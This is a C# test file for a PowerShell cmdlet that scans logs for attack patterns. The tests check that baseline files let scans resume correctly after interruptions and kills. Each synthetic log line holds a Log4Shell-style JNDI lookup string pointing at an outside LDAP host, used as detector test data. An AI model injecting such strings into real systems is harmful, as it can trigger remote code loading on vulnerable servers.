using System.Diagnostics;
using OpsModule.Cmdlets.Tests.Running;
using OpsModule.Engine.Areas.Attacks;

namespace OpsModule.Cmdlets.Tests.Attacks;

/// <summary>Scans that go on where the last one stopped, also when that was killed.</summary>
public sealed class AttackBaselineCmdletTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("opsmodule-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public void A_scan_shows_what_is_new_since_the_one_before()
    {
        Append(0, 3);
        Assert.Equal([0, 1, 2], Numbers("Find-OpsAttackPattern -Path a.log* -Baseline b.json"));
        Append(3, 2);
        Assert.Equal([3, 4], Numbers("Find-OpsAttackPattern -Path a.log* -Baseline b.json"));
        Assert.Empty(Numbers("Find-OpsAttackPattern -Path a.log* -Baseline b.json"));
    }

    [Fact]
    public void What_was_not_shown_is_shown_the_next_time()
    {
        Append(0, 40_000); // of several chunks
        int first = Assert.Single(Numbers("Find-OpsAttackPattern -Path a.log -Baseline b.json | Select-Object -First 1"));
        Assert.Equal(first, Assert.Single(Numbers("Find-OpsAttackPattern -Path a.log -Baseline b.json | Select-Object -First 1")));
        Assert.Equal(Enumerable.Range(0, 40_000), Numbers("Find-OpsAttackPattern -Path a.log -Baseline b.json"));
    }

    [Theory]
    [InlineData("Find-OpsAttackPattern -Path - -Baseline b.json", "ParametersConflict", "standard input")]
    [InlineData("Get-OpsLog -Path a.log | Find-OpsAttackPattern -Baseline b.json", "ParametersConflict", "piped in")]
    [InlineData("Find-OpsAttackPattern -Path a.log -Baseline a.log", "BaselineInvalid", "is no baseline")]
    [InlineData("Find-OpsAttackPattern -Path a.log -Baseline none/b.json", "BaselineUnwritable", "cannot be used")]
    public void What_cannot_be_meant_is_refused(string command, string id, string says)
    {
        Append(0, 1);
        PwshRun run = PwshRun.Of(command, _folder);
        Assert.Equal(id, run.Errors[0].ErrorId);
        Assert.Contains(says, run.Errors[0].Message);
    }

    [Fact]
    public async Task After_a_kill_nothing_is_left_out_and_what_the_baseline_knows_is_not_repeated()
    {
        Append(0, 2);
        using Process first = Start("Find-OpsAttackPattern -Path a.log -Baseline b.json -Follow | ForEach-Object Line");
        int[] shown = await TakeAsync(first, 2);
        Assert.Equal([0, 1], shown);
        string offset = $"\"offset\": {new FileInfo(Path.Combine(_folder, "a.log")).Length}";
        for (int i = 0; !File.Exists(Path.Combine(_folder, "b.json")) || !File.ReadAllText(Path.Combine(_folder, "b.json")).Contains(offset); i++)
        {
            Assert.True(i < 600, "the baseline was not written");
            await Task.Delay(100);
        }
        Append(2, 2);
        shown = await TakeAsync(first, 2);
        Assert.Equal([2, 3], shown);
        first.Kill();
        await first.WaitForExitAsync();
        Append(4, 2);
        int[] second = Numbers("Find-OpsAttackPattern -Path a.log -Baseline b.json");
        Assert.Equal([4, 5], second[^2..]);
        Assert.Contains(second.Length, (int[])[2, 4]); // 2 and 3 once more, or not
        Assert.DoesNotContain(1, second);
        Assert.Empty(Numbers("Find-OpsAttackPattern -Path a.log -Baseline b.json"));
    }

    [Fact]
    public async Task A_scan_that_is_killed_counts_for_nothing()
    {
        Append(0, 10);
        Assert.Equal(10, Numbers("Find-OpsAttackPattern -Path a.log -Baseline b.json").Length);
        Append(10, 60_000);
        using Process scan = Start("Find-OpsAttackPattern -Path a.log -Baseline b.json | ForEach-Object Line");
        Assert.Equal(Enumerable.Range(10, 100), await TakeAsync(scan, 100)); // it cannot go on: nobody reads what it writes
        scan.Kill();
        await scan.WaitForExitAsync();
        Assert.Equal(Enumerable.Range(10, 60_000), Numbers("Find-OpsAttackPattern -Path a.log -Baseline b.json"));
        Assert.Empty(Numbers("Find-OpsAttackPattern -Path a.log -Baseline b.json"));
    }

    private void Append(int from, int count) => File.AppendAllLines(Path.Combine(_folder, "a.log"), Enumerable.Range(from, count).Select(i => $"request {i} ${{jndi:ldap://203.0.113.9/a}}"));

    private int[] Numbers(string pipeline)
    {
        PwshRun run = PwshRun.Of(pipeline, _folder);
        Assert.Empty(run.Errors);
        Assert.Empty(run.Warnings);
        return [.. run.Objects.Select(m => Number(((AttackMatch)m).Raw))];
    }

    private static int Number(string line) => int.Parse(line.Split(' ')[1]);

    private Process Start(string pipeline)
    {
        return Process.Start(PwshProcess.Of(pipeline, _folder))!;
    }

    private static async Task<int[]> TakeAsync(Process process, int count)
    {
        var taken = new List<int>();
        while (taken.Count < count && await process.StandardOutput.ReadLineAsync() is { } line)
            if (int.TryParse(line, out int number)) taken.Add(number - 1); // requests count from 0, lines from 1
        return [.. taken];
    }
}
